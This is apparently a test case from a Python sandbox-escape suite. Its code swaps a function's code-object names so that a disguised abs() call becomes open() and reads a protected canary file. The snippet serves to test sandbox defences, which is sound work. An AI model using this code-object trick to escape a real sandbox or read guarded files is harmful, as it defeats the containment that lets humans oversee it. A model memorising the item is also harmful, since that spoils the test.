# desc: a function whose code is put together anew
# class: escape
# wins: told
def read():
    return abs("@CANARY@").read()

def attack(state):
    read.__code__ = read.__code__.replace(co_names=("open", "read"))
    return "L2:" + read()
